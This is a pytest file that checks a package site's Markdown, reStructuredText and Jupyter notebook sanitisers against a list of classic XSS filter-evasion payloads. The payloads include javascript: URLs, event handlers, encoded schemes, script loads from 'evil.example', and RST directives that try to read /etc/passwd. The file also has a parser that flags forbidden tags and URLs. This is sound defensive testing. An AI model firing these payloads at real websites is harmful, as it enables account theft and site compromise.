"""Classic XSS filter-evasion vectors (in the style of OWASP's cheat sheet, written here) against every sanitiser.

Markdown and reStructuredText descriptions (ui/render.py), the notebook sanitiser that makes the stored
standalone page (formats/notebook/render.py, at upload), and the site's second pass over that page when it is
shown inside the package page (ui/views.py `sanitise_notebook`). Whatever goes in, what comes out has no script,
no event handler, no style (CSS can run script in old browsers and restyle the page in all), no frame, form or
object, and no javascript:, vbscript: or data: URL, except data:image/ pictures in notebooks.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbformat import writes
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from packyard.formats.notebook import parse as notebook
from packyard.formats.notebook.render import clean_html
from packyard.ui.render import description
from packyard.ui.views import sanitise_notebook

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<svg/onload=alert('XSS')>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=http://evil.example/scriptlet.html <",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<FORM ACTION="javascript:alert(1)"><BUTTON FORMACTION="javascript:alert(2)">x</BUTTON></FORM>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<p style="color:red;behavior:url(xss.htc)">x</p>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="da&#x09;ta:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<!--<script>--><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "[click](javascript:alert(1)) ![pic](javascript:alert(2)) <javascript:alert(3)>",
    "[click](JAVASCRIPT:alert(1)) [data](data:text/html,x) [vb](vbscript:x)",
]
RST_VECTORS = [
    ".. raw:: html\n\n   <script>alert(1)</script>\n",
    "`click <javascript:alert(1)>`_\n",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(2)\n",
    ".. include:: /etc/passwd\n",
    ".. |x| image:: data:text/html,<script>alert(1)</script>\n\n|x|\n",
    "Title\n=====\n\n.. _evil: vbscript:msgbox(1)\n\nSee evil_.\n",
    ".. csv-table::\n   :file: /etc/passwd\n",
]
assert len(VECTORS) >= 25


class _Audit(HTMLParser):
    """Everything in a fragment that could run, load or restyle, as a browser's tokenizer sees it."""

    FORBIDDEN_TAGS = frozenset(
        {"script", "style", "iframe", "frame", "object", "embed", "applet", "link", "meta", "base", "form"}
        | {"input", "button", "svg", "math", "template", "noscript", "textarea", "title"}
    )

    URL_ATTRIBUTES = frozenset(
        {"href", "src", "xlink:href", "action", "formaction", "background", "dynsrc", "lowsrc", "data"}
        | {"poster", "srcset", "cite", "longdesc", "usemap", "codebase", "content"}
    )
    """Where a browser reads a URL (alt and title are only text)."""

    def __init__(self, images: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.images = images
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            # What a browser does to a URL: tabs and newlines vanish anywhere, controls and spaces at the start.
            url = re.sub(r"^[\x00-\x20]+", "", re.sub(r"[\t\n\r]", "", value or "")).lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"<{tag} {name}=>")
            elif (name in self.URL_ATTRIBUTES and url.startswith(("javascript:", "vbscript:"))) or (
                url.startswith("data:")
                and not (self.images and tag == "img" and url.startswith("data:image/"))
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")


def assert_inert(html: str, *, images: bool = False) -> None:
    audit = _Audit(images)
    audit.feed(html)
    audit.close()
    assert not audit.problems, (audit.problems, html)
    assert "expression(" not in re.sub(r">[^<]*<", "><", html)  # only as text, never in an attribute


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_descriptions(vector: str) -> None:
    assert_inert(str(description(vector, "text/markdown")))


@pytest.mark.parametrize("vector", VECTORS + RST_VECTORS)
def test_rst_descriptions(vector: str) -> None:
    rendered = str(description(vector, "text/x-rst"))
    assert_inert(rendered)
    assert "root:" not in rendered  # nothing read from the server's disk


@pytest.mark.parametrize("vector", VECTORS)
def test_notebook_cleaner(vector: str) -> None:
    assert_inert(clean_html(vector), images=True)


@pytest.mark.parametrize("vector", VECTORS)
def test_site_pass_over_a_stored_notebook_page(vector: str) -> None:
    """ui/views.py cleans the stored page again for the package page: alone, it must hold too."""
    page = f'<html><body><main class="notebook">\n{vector}\n</main></body></html>'.encode()
    assert_inert(sanitise_notebook(page), images=True)


def test_the_stored_notebook_page_and_the_package_page(tmp_path: Path) -> None:
    """Every vector in a markdown cell, an HTML output, an SVG output and a markdown output at once."""
    nb = new_notebook()
    nb.cells = [new_markdown_cell(vector) for vector in VECTORS]
    outputs = [
        new_output("display_data", data={"text/html": vector, "text/markdown": vector, "text/plain": "x"})
        for vector in VECTORS
    ]
    outputs.append(
        new_output(
            "display_data", data={"image/svg+xml": "<svg onload=alert(1)><script>alert(2)</script></svg>"}
        )
    )
    nb.cells.append(new_code_cell("print(1)", outputs=outputs))
    path = tmp_path / "vectors.ipynb"
    path.write_text(writes(nb))
    page = notebook.parse(path, path.name, version="1").extra_files["html"]
    body = page.decode().split("<body>", 1)[1]
    assert_inert(body, images=True)
    assert_inert(sanitise_notebook(page), images=True)
